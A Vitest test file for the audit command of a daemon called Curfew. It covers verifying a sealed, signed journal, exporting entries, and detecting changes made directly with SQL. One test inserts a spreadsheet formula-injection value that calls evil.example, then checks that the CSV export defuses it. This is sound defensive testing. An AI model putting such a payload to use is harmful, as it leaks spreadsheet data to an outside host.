import { execFileSync } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createStore } from '../../src/store/create-store.ts';
import type { Database } from '../../src/store/database.ts';
import { openEmbedded } from '../../src/store/open.ts';
import { connectPostgres } from '../../src/store/postgres.ts';
import { entryOf } from '../store/samples.ts';
import { tamper } from '../store/tamper.ts';
import { freshDatabase } from '../support/database.ts';
import { describeOn } from '../support/engines.ts';
import { temporaryFolder } from '../support/guard.ts';
import type { Launched } from '../support/launch.ts';
import { expectSentence, IDLE_POLICY, makePlace, type Place } from './place.ts';

/** An auditor has no key for the vendor's API. */
const AUDITOR = { POLYTOMIC_API_KEY: '' };

const openssl = (...args: string[]) => execFileSync('openssl', args);

let place: Place;
let daemon: Launched;
let files: Awaited<ReturnType<typeof temporaryFolder>>;
const file = (name: string) => join(files.path, name);
const run = (...args: string[]) => place.run(['audit', ...args], AUDITOR);

/** A place with a key for seals, and a daemon that has sealed its start. */
async function begin(more: Record<string, string> = {}): Promise<void> {
  files = await temporaryFolder('audit');
  openssl('genpkey', '-algorithm', 'ed25519', '-out', file('key.pem'));
  openssl('pkey', '-in', file('key.pem'), '-pubout', '-out', file('key.pub'));
  place = await makePlace({ CURFEW_SEAL_KEY_FILE: file('key.pem'), ...more });
  await place.home.write('idle.yaml', IDLE_POLICY);
  daemon = await place.launchDaemon();
  await daemon.waitForLine(/"msg":"sealed"/);
}

async function leave(): Promise<void> {
  await place.leave();
  await files.remove();
}

/** The log of a daemon, as something that keeps logs elsewhere would have it. */
async function keepLog(): Promise<string> {
  await writeFile(file('curfew.log'), daemon.lines.join('\n'));
  return file('curfew.log');
}

/** The numbers of the entries, oldest first. */
async function seqs(): Promise<number[]> {
  const { stdout } = await run('export');
  return stdout
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line).seq);
}

/** What stays true from here on, whoever is asked. */
function canBeAudited(): void {
  test('verify says that the journal holds, and what that rests on', async () => {
    const log = await keepLog();
    const plain = await run('verify');
    expect(plain).toMatchObject({ exitCode: 0, stderr: '' });
    expect(plain.stdout).toMatch(/^✓ The journal holds: \d+ entries under \d+ seals?\n/);
    expect(plain.stdout).toMatch(/signed +every seal, with key \w{16}; not checked/);
    expect(plain.stdout).toMatch(/kept seals +none given/);
    const full = await run('verify', '--against', log, '--public-key', file('key.pub'));
    expect(full).toMatchObject({ exitCode: 0, stderr: '' });
    expect(full.stdout).not.toMatch(/not checked|none given/);
    for (const line of full.stdout.split('\n')) expect(line.length).toBeLessThanOrEqual(120);
  });

  test('verify gives the same as one document', async () => {
    const { exitCode, stdout } = await run('verify', '--format', 'json');
    expect([exitCode, JSON.parse(stdout)]).toMatchObject([
      0,
      {
        ok: true,
        breaches: [],
        last: { mark: expect.stringMatching(/^\d+:[0-9a-f]{64}$/) },
        signatures: { isChecked: false },
      },
    ]);
  });

  test('seals are listed, and each can be kept by its text alone', async () => {
    const { exitCode, stdout } = await run('seals', '--limit', '3');
    expect(exitCode).toBe(0);
    const mark = /\d+:[0-9a-f]{64}/.exec(stdout)![0];
    expect(await run('verify', '--against', mark)).toMatchObject({ exitCode: 0 });
    const json = await run('seals', '--format', 'json');
    await writeFile(file('seals.json'), json.stdout);
    expect(JSON.parse(json.stdout).map((seal: { mark: string }) => seal.mark)).toContain(mark);
    expect((await run('verify', '--against', file('seals.json'))).stdout).toMatch(/found as kept/);
    const other = mark.replace(/:../, ':00');
    expect(await run('verify', '--against', other)).toMatchObject({
      exitCode: 1,
      stdout: expect.stringContaining('is not the one that was kept'),
    });
    const later = mark.replace(/^\d+/, '999');
    expect(await run('verify', '--against', later)).toMatchObject({
      exitCode: 1,
      stdout: expect.stringMatching(/ends with seal \d+, but seal 999 was kept/),
    });
  });

  test('an export is a line for each entry, narrowed by every filter', async () => {
    const { exitCode, stdout, stderr } = await run('export');
    expect([exitCode, stderr]).toEqual([0, expect.stringMatching(/^newest seal: \d+:\w{64}\n$/)]);
    const entries = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(entries[0]).toMatchObject({
      seq: 1,
      seal: 1,
      type: 'policies.loaded',
      at: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
    });
    const started = await run('export', '--type', 'daemon.started');
    expect(started.stdout.match(/\n/g)).toHaveLength(1);
    const [later] = entries.slice(1);
    const since = await run('export', '--since', later.at, '--until', later.at);
    expect(since.stdout).toBe('');
    expect((await run('export', '--policy', 'nobody', '--sync', 'model:gone')).stdout).toBe('');
  });

  test('an export with its seals is checked without any database, here and by others', async () => {
    const evidence = file('evidence.jsonl');
    const { stdout } = await run('export', '--with-seals');
    await writeFile(evidence, stdout);
    const elsewhere = { CURFEW_DATA: '/nowhere', DATABASE_URL: '', CURFEW_SEAL_KEY_FILE: '' };
    const args = ['audit', 'verify', evidence, '--public-key', file('key.pub')];
    const { exitCode, stdout: said } = await place.run(args, { ...AUDITOR, ...elsewhere });
    expect([exitCode, said]).toEqual([0, expect.stringContaining('✓ The journal holds')]);

    const manual = await readFile(new URL('../../docs/audit.md', import.meta.url), 'utf8');
    await writeFile(file('check.mjs'), /```js\n(.*?)```/s.exec(manual)![1]!);
    const script = (path: string) =>
      execFileSync(process.execPath, [file('check.mjs'), path], {
        encoding: 'utf8',
        stdio: 'pipe',
      });
    const newest = /newest seal (\d+:\w{64})/.exec(said)![1];
    expect(script(evidence)).toBe(`holds up to ${newest}\n`);

    await writeFile(evidence, stdout.replace('policies are in force', 'policies were in force'));
    expect(await run('verify', evidence)).toMatchObject({
      exitCode: 1,
      stdout: expect.stringContaining('the first bad entry is 1\n'),
    });
    expect(() => script(evidence)).toThrow('entries under seal 1');
    await writeFile(evidence, stdout.slice(0, -30));
    expect(await run('verify', evidence)).toMatchObject({
      exitCode: 1,
      stderr: expect.stringMatching(
        /evidence\.jsonl:\d+: neither an entry nor a seal; make it with/,
      ),
    });
  });
}

describe('the journal of a daemon with an embedded database', () => {
  beforeAll(() => begin());
  afterAll(leave);
  /** Opens the folder, which belongs to one process at a time, and closes it again. */
  async function withDatabase(work: (database: Database) => Promise<void>): Promise<void> {
    const { database } = await openEmbedded({ folder: place.home.data, onCrash: () => undefined });
    await work(database);
    await database.close();
  }
  const sql = (text: string) => withDatabase((database) => tamper(database, text));

  describe('while it runs', canBeAudited);

  describe('after it has stopped', () => {
    beforeAll(async () => {
      await daemon.end('SIGTERM');
      // What it said last is sealed, too.
      expect((await run('verify')).stdout).toMatch(/not sealed +nothing/);
    });
    canBeAudited();

    test('an export to a spreadsheet holds no formula', async () => {
      const reason = '=HYPERLINK("https://evil.example/?"&A1,"see, here")';
      const entry = entryOf('model:1', { reason, syncName: '@SUM(1)' });
      await withDatabase((database) => createStore(database).append([entry]));
      const { stdout } = await run('export', '--format', 'csv');
      const lines = stdout.split('\r\n');
      expect(lines[0]).toMatch(/^seq,seal,at,type,actor,sync,syncName,policy,reason,/);
      expect(lines.at(-2)).toContain(
        `,model:1,'@SUM(1),,"'=HYPERLINK(""https://evil.example/?""&A1,""see, here"")",`,
      );
      expect((await run('verify')).stdout).toMatch(/not sealed +1 entry since /);
    });

    test('verify names the entry that somebody changed with SQL', async () => {
      const victim = (await seqs())[1]!;
      await sql(`update curfew.journal set reason = reason || '!' where seq = ${victim}`);
      const { exitCode, stdout } = await run('verify');
      expect(exitCode).toBe(1);
      expect(stdout).toMatch(new RegExp(`^✗ .* the first bad entry is ${victim}\n`));
      expect(stdout).toContain(
        `found       entry ${victim} was changed after it was sealed (seal 1`,
      );
      expect(JSON.parse((await run('verify', '--format', 'json')).stdout)).toMatchObject({
        ok: false,
        breachCount: 1,
        breaches: [{ code: 'entry-changed', seq: victim, seal: 1 }],
      });
      await sql(`update curfew.journal set reason = trim('!' from reason) where seq = ${victim}`);
      expect((await run('verify')).exitCode).toBe(0);
    });

    test('verify sees that the end was cut off, when a seal was kept elsewhere', async () => {
      const log = await keepLog();
      const last = JSON.parse((await run('seals', '--limit', '1', '--format', 'json')).stdout)[0];
      const { number, firstSeq } = last.seal;
      await sql(
        `delete from curfew.seal_lists where seal = ${number};
         delete from curfew.seals where number = ${number};
         delete from curfew.journal where seq >= ${firstSeq}`,
      );
      expect((await run('verify')).exitCode).toBe(0);
      const { exitCode, stdout } = await run('verify', '--against', log);
      expect(exitCode).toBe(1);
      expect(stdout).toContain(`ends with seal ${number - 1}, but seal ${number} was kept`);
      expect(stdout).toContain(`the first bad entry is ${firstSeq}\n`);
    });
  });

  test.each([
    ['a file that is not there', ['verify', '--against', '/nowhere'], /\/nowhere cannot be read/],
    ['a file without a seal', ['verify', '--against', '/dev/null'], /\/dev\/null holds no seal/],
    ['no key', ['verify', '--public-key', '/dev/null'], /holds no Ed25519 public key/],
    ['a type that is none', ['export', '--type', 'hold.hled'], /did you mean hold\.held\?/],
    ['a part with seals', ['export', '--with-seals', '--policy', 'p'], /only the whole journal/],
    ['seals in CSV', ['export', '--with-seals', '--format', 'csv'], /CSV has no place for seals/],
    ['a time that is none', ['export', '--until', 'soon'], /--until: "soon" is no time/],
    ['a limit that is none', ['seals', '--limit', 'all'], /--limit: "all" is no number/],
  ])('%s is wrong usage', async (_, args, sentence) => {
    expect(await run(...args)).toEqual({
      exitCode: 2,
      stdout: '',
      stderr: expect.stringMatching(sentence),
    });
  });

  test('where there is no database, none is made', async () => {
    const env = { ...AUDITOR, CURFEW_DATA: '/tmp/curfew-nowhere' };
    expectSentence(await place.run('audit verify', env), 1, /no database in \/tmp\/curfew-nowhere/);
  });

  test('a server that does not answer is exit 3', async () => {
    const env = { ...AUDITOR, DATABASE_URL: 'postgres://u:p@127.0.0.1:9/d' };
    expectSentence(await place.run('audit export', env), 3, /Cannot reach the database at 127/);
  });
});

describeOn('postgres', 'the journal of a daemon', () => {
  let database: Awaited<ReturnType<typeof freshDatabase>>;
  beforeAll(async () => {
    database = await freshDatabase();
    await begin({ DATABASE_URL: database.url });
  });
  afterAll(async () => {
    await leave();
    await database.drop();
  });

  test('is checked through the daemon, which notices that it was robbed of its seals', async () => {
    const connection = connectPostgres({ url: database.url });
    const [{ stdout: before }, [victim]] = [await run('verify'), await seqs()];
    expect(before).toContain('✓ The journal holds');
    const change = (by: number) =>
      tamper(
        connection,
        `update curfew.journal set lateness_ms = nullif(coalesce(lateness_ms, 0) + ${by}, 0)
          where seq = ${victim}`,
      );
    await change(1);
    const { exitCode, stdout } = await run('verify');
    expect([exitCode, stdout]).toEqual([1, expect.stringContaining(`bad entry is ${victim}\n`)]);
    await change(-1);
    expect((await run('verify')).exitCode).toBe(0);
    await tamper(connection, 'truncate curfew.seals, curfew.seal_lists');
    await createStore(connection).append([entryOf('model:1')]);
    await daemon.waitForLine(/"type":"alert\.raised".*Seal \d+, which this daemon made, is gone/);
    expect((await place.run('status')).stdout).toMatch(/! Seal \d+, which this daemon made/);
    await connection.close();
  });

  test('is read by somebody who may only read', async () => {
    await daemon.end('SIGTERM');
    const owner = connectPostgres({ url: database.url });
    const name = `auditor_${database.name}`;
    await owner.query(`create role ${name} login password 'read-only-please'`);
    await owner.query(`grant usage on schema curfew to ${name}`);
    const url = new URL(database.url);
    url.username = name;
    url.password = 'read-only-please';
    const ask = (what: string) => place.run(what, { ...AUDITOR, DATABASE_URL: url.href });
    expectSentence(await ask('audit verify'), 1, /permission denied/);
    await owner.query(`grant select on all tables in schema curfew to ${name}`);
    expect((await ask('audit verify')).stdout).toContain('no seal at all');
    expect((await ask('audit export')).stdout).toContain('"type":"daemon.stopped"');
    await owner.query(`drop owned by ${name}; drop role ${name}`);
    await owner.close();
  });

  test('of a database that no daemon has made is a sentence', async () => {
    const empty = await freshDatabase();
    const ran = await place.run('audit verify', { ...AUDITOR, DATABASE_URL: empty.url });
    expectSentence(ran, 1, /The database has nothing of Curfew, and this version needs 0\d+-/);
    await empty.drop();
  });
});
